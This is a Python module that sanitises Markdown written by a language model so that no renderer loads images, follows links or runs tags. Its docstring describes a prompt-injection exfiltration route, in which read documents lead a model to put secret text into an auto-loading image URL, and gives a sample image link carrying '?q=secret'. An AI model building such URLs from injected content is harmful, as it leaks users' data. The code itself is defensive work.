"""Markdown that is safe in any renderer: it loads, links to and runs nothing.

An answer is written by a model that has read documents of unknown origin, or quotes these. A chat client, or a viewer
of an exported file, would load an image's URL at once, and with it any text that a document had the model put into that
URL. So images, links, tags and link definitions are broken up by a space, and a URL is put into code, where it can be
read and not be followed by accident. Links to sources are written by the program, next to the answer.

    ![a](https://example.org/?q=secret)      becomes  ! [a] (`https://example.org/?q=secret`)
    <img src="https://example.org/">         becomes  < img src="`https://example.org/`">

Every decision uses only the few characters before and after, whatever part of Markdown they are in: what one renderer
takes for code is markup to another one. Only the lines between two code fences at the margin are unchanged, about
which renderers agree; a fence's language is removed, since some clients draw diagrams or pages.
"""

from __future__ import annotations

import re
from html import unescape

_PREFIX = r"[ \t>*+\d.)-]{0,40}"
_SHOWN_LANGUAGES = frozenset(
    {"bash", "c", "console", "cpp", "csv", "go", "ini", "java", "json", "python", "r", "rust", "sh", "shell", "sql"}
    | {"text", "toml", "yaml"}
)
"""Languages of code that clients show as text."""
_LINE = re.compile(r"[^\n]*\n|[^\n]+")
_FENCE = re.compile(rf"({_PREFIX})(`{{3,}}|~{{3,}})([^\n]*)")
_MAY_BE_FENCE = re.compile(rf"{_PREFIX}(?:`{{0,2}}|~{{0,2}})\Z")
_MAY_CLOSE = re.compile(r"\A {0,3}+[`~]*+[ \t]*+\Z")
_LONGEST_ADDRESS = 2_000
_REST = rf"[^\s<>`\"'|{{}}\[\]()^，。、；：）」】]{{0,{_LONGEST_ADDRESS}}}"
_BEGINS = r"(?:(?:https?|ftps?|wss?|file):(?:\\?/){2}|(?<![^\W_])(?:(?<![.@/-])www\.|(?<![:/])//(?=[\w-]{1,63}\.\w)))"
_ENTITY = r"&(?:#\d{1,7}|#x[0-9a-f]{1,6}|colon|sol|period);"
_ENTITIES, _ENTITY_AT_END = re.compile(_ENTITY, re.IGNORECASE), re.compile(rf"{_ENTITY}\Z", re.IGNORECASE)
_TOKEN = re.compile(
    rf"(?P<line>\n)|(?P<entity>{_ENTITY})|(?P<coded>(?<![`\\])`{_BEGINS}{_REST}`(?!`))|(?P<ticks>`+)|(?P<address>{_BEGINS}{_REST})"
    r"|(?P<image>!(?=\[))|(?P<target>\](?=\())|(?P<definition>\](?=:))"
    r"|(?P<tag><(?=[/!?]|[A-Za-z][A-Za-z0-9-]{0,30}(?:[\s/>]|\Z)|[A-Za-z][A-Za-z0-9+.-]{0,30}:))",
    re.IGNORECASE,
)
# It matches "![", "](", "<img ", "https://example.org", "&#104;" and not "!", "p<0.05", "[1] (", "&amp;".
_ADDRESS = re.compile(rf"{_BEGINS}{_REST}\Z", re.IGNORECASE)
_UNDECIDED = re.compile(
    r"(?:!|\]|&[#a-z0-9]{0,9}|<[A-Za-z0-9+.-]{0,32}|`{1,8}|`{0,8}(?:(?:h|ht|htt|https?|f|ft|ftps?|ws|wss|w|ww|fi|fil|file)"
    r"(?::(?:\\?/)?\\?)?|www|/|//[\w-]{0,63}\.?))\Z",
    re.IGNORECASE,
)
_LOOKED_BACK = 100
"""Characters at the end of the received text in which a token, other than a URL, may have begun."""
_BEFORE = 12
"""Characters of already written text that are remembered: enough for a citation mark."""
_SPLIT = re.compile(r"(:?(?:\\?/){2}|www\.)(?=\S)", re.IGNORECASE)
_SLASHES_AT_END = re.compile(r"(?:\\?/){2}\Z")
_MARK_BEFORE = re.compile(r"(?<!\\)\[\d{1,6}\Z")
_OF_ADDRESSES = re.compile(r"[A-Za-z0-9:/.]")
_LETTER = re.compile(r"[^\W\d_]")
_TRAILING = ".,;:!?*_~'\\"
INVISIBLE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x84\x86-\x9f\u200b\u202a-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e0fff]"
)
"""Invisible characters that control a terminal, hide text or change its direction: controls except tabs and line ends,
zero-width, bidirectional controls, tags. Loaders remove controls; documents that a program adds may contain them."""


def inert(text: str) -> str:
    """Return Markdown in which no image, link, tag, link definition or language of code is rendered.

    Text that is already inert is returned unchanged.
    """
    stream = InertText()
    return stream.feed(text) + stream.finish()


def inert_line(text: str) -> str:
    """Return a title, a name or a quote on one line: inert, and without terminal control sequences."""
    return inert(" ".join(visible(text.replace("\r", " ")).split()))


def visible(text: str) -> str:
    """Return a text without invisible characters, which can hide or reverse words, or control a terminal."""
    return INVISIBLE.sub("", text)


class InertText:
    """`inert` for a text that arrives in pieces; the joined result does not depend on where the pieces were cut."""

    def __init__(self) -> None:
        self._pending = self._before = ""
        self._fence = ""
        self._is_line_begun = self._is_lettered = self._is_blank_behind = self._is_literal = False
        self._has_ticks = False
        # after a fence that is not at the margin, it is unclear whether a later one opens or closes
        self._is_unsure = False

    def feed(self, piece: str) -> str:
        """Return the text that is decided once this piece has arrived."""
        out = []
        # one after the other, so that the time stays proportional to the length
        for line in _LINE.findall(visible(piece)):
            self._pending += line
            out.append(self._take(final=False))
        return "".join(out)

    def finish(self) -> str:
        """Return the rest of the text."""
        return self._take(final=True)

    def _take(self, *, final: bool) -> str:
        """Return the pending text that can be shown; `final`: nothing follows."""
        out: list[str] = []
        while self._pending:
            pending = self._pending
            if not self._is_line_begun and not self._begin_line(out, final=final):
                break
            if self._is_literal:
                self._literal(out)
            elif self._pending and not self._ordinary(out, final=final):
                break
            if len(self._pending) == len(pending) and not self._is_line_begun:
                break
        return "".join(out)

    def _begin_line(self, out: list[str], *, final: bool) -> bool:
        """Decide the kind of a line; return False if that needs more text."""
        line, ended, _ = self._pending.partition("\n")
        whole = bool(ended) or final
        if self._fence:
            if not whole and _MAY_CLOSE.match(line):
                return False
            closing = line.strip(" \t")
            ends = set(closing) == {self._fence[0]} and len(closing) >= len(self._fence) and _MAY_CLOSE.match(line)
            self._is_line_begun = self._is_literal = True
            self._fence = "" if ends else self._fence
            return True
        if not whole and (_MAY_BE_FENCE.match(line) or (_FENCE.match(line) and len(line) < _LONGEST_ADDRESS)):
            return False
        self._is_line_begun, self._is_literal, self._is_lettered = True, False, False
        fence = _FENCE.match(line)
        if fence is None or (fence[2][0] == "`" and "`" in fence[3]):
            return True
        language = fence[3].strip()
        out.append(fence[1] + fence[2] + (language if language in _SHOWN_LANGUAGES else ""))
        self._pending, self._is_literal = self._pending[len(line) :], True
        self._is_unsure = self._is_unsure or bool(fence[1])
        self._fence, self._has_ticks = ("", True) if self._is_unsure else (fence[2], False)
        self._is_blank_behind = False
        return True

    def _literal(self, out: list[str]) -> None:
        """Write a line, or the received part of it, unchanged."""
        line, ended, rest = self._pending.partition("\n")
        out.append(line + ended)
        self._pending, self._before = rest, ""
        self._is_line_begun = not ended

    def _ordinary(self, out: list[str], *, final: bool) -> bool:
        """Write the decided part of a line; return False if more text is needed."""
        text, at = self._before + self._pending, len(self._before)
        undecided = None if final else _UNDECIDED.search(text, max(at, len(text) - _LOOKED_BACK))
        end = undecided.start() if undecided else len(text)
        is_new_line = False
        while not is_new_line:
            token = _TOKEN.search(text, at)
            if token is not None and not final and _may_go_on(token, text):
                end = min(end, token.start())
            if token is None or token.start() >= end:
                break
            self._note(text[at : token.start()])
            out.append(text[at : token.start()])
            at = token.end()
            if token.lastgroup == "address":
                at = token.start() + _length(token[0])
            out.append(self._written(token, text, at))
            is_new_line = token.lastgroup == "line"
        if not is_new_line and at < end:
            self._note(text[at:end])
            out.append(text[at:end])
            at = end
        self._pending, self._before = text[at:], text[max(at - _BEFORE, 0) : at]
        if is_new_line:
            self._before, self._is_line_begun = "", False
        return is_new_line

    def _note(self, text: str) -> None:
        """Record the written text that precedes the next decision."""
        self._is_blank_behind = self._is_blank_behind and not text.strip()
        self._is_lettered = self._is_lettered or bool(_LETTER.search(text))

    def _written(self, token: re.Match[str], text: str, end: int) -> str:
        """Return the replacement of a token that ends at `end`."""
        kind, found, behind = token.lastgroup, text[token.start() : end], text[end : end + 1]
        if kind == "line":
            if self._is_blank_behind:
                self._has_ticks = False
            self._is_blank_behind = True
            return found
        self._is_blank_behind = False
        if kind == "coded" and not self._has_ticks:
            return found
        if kind in ("coded", "ticks"):
            self._has_ticks = True
            return _broken_up(found, behind)
        if kind == "entity":
            return _broken_up(found, behind)
        if kind == "definition":
            mark = _MARK_BEFORE.search(text, max(token.start() - _BEFORE, 0), token.start())
            return found if mark and self._is_lettered else f"{found} "
        if kind != "address":
            return f"{found} "
        is_escaped = text[max(token.start() - 1, 0) : token.start()] in ("\\", "`")
        if self._has_ticks or is_escaped or behind == "`" or _SPLIT.search(found) is None:
            return _broken_up(found, behind)
        return f"`{found}`"


def _length(address: str) -> int:
    """Return the length of a URL without the punctuation after it, except for the end of an entity."""
    kept = len(address.rstrip(_TRAILING))
    entity = _ENTITY_AT_END.search(address, max(kept - 10, 0), kept + 1)
    return kept + 1 if entity else kept


def _broken_up(found: str, behind: str) -> str:
    """Return a URL or entity, broken up so that no renderer joins it with what follows.

    Args:
        found: The URL or entity.
        behind: The character after it.
    """
    split = _SPLIT.sub(r"\1 ", found)
    if _SLASHES_AT_END.search(split) and behind.strip():  # some renderers make a link of "https://!", too
        split += " "
    return _ENTITIES.sub(
        lambda entity: f"& {entity[0][1:]}" if _OF_ADDRESSES.fullmatch(unescape(entity[0])) else entity[0], split
    )


def _may_go_on(token: re.Match[str], text: str) -> bool:
    """Return whether the last token may be an unfinished URL, or the code around one."""
    if token.lastgroup == "ticks":
        return _ADDRESS.match(text, token.end()) is not None
    return token.lastgroup in ("address", "coded") and token.end() == len(text)
